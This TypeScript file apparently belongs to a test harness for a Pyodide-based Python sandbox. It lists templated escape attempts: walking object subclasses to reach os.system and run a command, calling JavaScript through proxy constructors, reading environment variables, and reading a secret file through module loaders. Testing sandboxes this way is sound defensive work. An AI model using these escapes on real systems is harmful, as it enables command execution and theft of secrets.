import type { Attempt } from "../attempt.ts";
import { attemptFamily } from "../attempt-family.ts";
import { command, none, stock } from "./snippets.ts";

/** From an object that is at hand to one that is not. */
export const objectWalks: readonly Attempt[] = attemptFamily("Walks over objects", [
  [
    "from the subclasses of object to a module with os",
    stock("ran a command"),
    (host) => `for one in object.__subclasses__():
    init = getattr(one, '__init__', None)
    if hasattr(init, '__globals__') and 'system' in dir(init.__globals__.get('os') or init.__globals__.get('sys')):
        init.__globals__['os'].system("${command(host)}")
        break
    if hasattr(init, '__globals__') and 'os' in init.__globals__:
        init.__globals__['os'].system("${command(host)}")
        break`,
  ],
  [
    "to every proxy that the collector knows",
    stock("ran JavaScript"),
    ({ realmProof }) => `import gc
try:
    import js
    keep = [js.Object, js.Array]
except ImportError:
    keep = []
found = [one for one in gc.get_objects() if type(one).__name__.startswith('Js')]
found += keep
for one in found:
    try:
        print(one.constructor.constructor('return ${realmProof}')())
    except Exception as error:
        print(type(error).__name__)
len(found)`,
  ],
  [
    "to what the sandbox keeps for itself",
    none,
    ({ variable, realmProof }) => `import sys
sandbox = sys.modules['_sandbox']
kept = [value for name in dir(sandbox) for value in [getattr(sandbox, name)]]
kept += [one for value in kept if isinstance(value, (list, tuple, set)) for one in value]
kept += [one for value in kept if isinstance(value, dict) for one in value.values()]
proxies = [one for one in kept if 'Js' in type(one).__name__]
print(len(kept), len(proxies))
for one in proxies:
    print(one.process.env.${variable})
    print(one.constructor.constructor('return ${realmProof}')())`,
  ],
  [
    "to a proxy that is only shown, compared or freed",
    none,
    () => `import sys, gc
kept = getattr(sys.modules['_sandbox'], '_kept', [])
for one in [*kept]:
    for use in (id, type, bool, lambda p: p is None, lambda p: p == p, hash, repr, str, dir, lambda p: p.js_id, lambda p: p.to_py(), iter, len):
        try:
            print(use.__name__, str(use(one))[:100])
        except Exception as error:
            print(type(error).__name__)
kept.clear()
gc.collect()`,
  ],
  [
    "to what refers to the class of proxies",
    none,
    ({ realmProof }) => `import gc
from pyodide.ffi import JsProxy
for one in gc.get_referrers(JsProxy):
    for value in (one.values() if isinstance(one, dict) else one if isinstance(one, (list, tuple)) else [one]):
        try:
            if isinstance(value, JsProxy):
                print(value.constructor.constructor('return ${realmProof}')())
        except Exception as error:
            print(type(error).__name__)`,
  ],
  [
    "up the frames of the caller",
    none,
    ({ realmProof }) => `import sys
frame = sys._getframe()
while frame is not None:
    for name, value in [*frame.f_globals.items(), *frame.f_locals.items()]:
        if type(value).__name__ == 'JsProxy':
            print(value.constructor.constructor('return ${realmProof}')())
    frame = frame.f_back`,
  ],
  [
    "down the closures of all functions",
    none,
    ({ realmProof }) => `import gc, types
for function in gc.get_objects():
    if isinstance(function, types.FunctionType):
        for cell in function.__closure__ or ():
            try:
                value = cell.cell_contents
                if 'Js' in type(value).__name__:
                    print(function, value.constructor.constructor('return ${realmProof}')())
            except Exception:
                pass`,
  ],
  [
    "into the traceback of an error of the interpreter",
    none,
    ({ realmProof }) => `import sys
try:
    import js
except BaseException as error:
    frame = error.__traceback__.tb_frame
    for _ in range(20):
        if frame is None: break
        for value in frame.f_globals.values():
            if type(value).__name__ == 'JsProxy':
                print(value.constructor.constructor('return ${realmProof}')())
        frame = frame.f_back`,
  ],
  [
    "to the loaders of all modules",
    none,
    ({ secretFile }) => `import sys
for module in [*sys.modules.values()]:
    loader = getattr(module, '__loader__', None)
    if hasattr(loader, 'get_data'):
        try:
            print(loader.get_data('${secretFile}'))
            break
        except OSError as error:
            print(error)
            break`,
  ],
  [
    "through audit hooks and what they see",
    none,
    ({ realmProof }) => `import sys, gc
seen = []
sys.addaudithook(lambda event, arguments: seen.append(arguments))
try:
    import js
except ImportError:
    pass
open('/tmp/x', 'w').close()
[a.constructor.constructor('return ${realmProof}')() for row in seen for a in row if type(a).__name__ == 'JsProxy']`,
  ],
  [
    "with weak references to what the collector frees",
    none,
    () => `import gc, weakref
class Holder: pass
found = []
gc.callbacks.append(lambda phase, info: found.extend(one for one in gc.garbage))
gc.set_debug(gc.DEBUG_SAVEALL)
for _ in range(5):
    gc.collect()
print([type(one).__name__ for one in found if 'Js' in type(one).__name__])
gc.set_debug(0)`,
  ],
]);
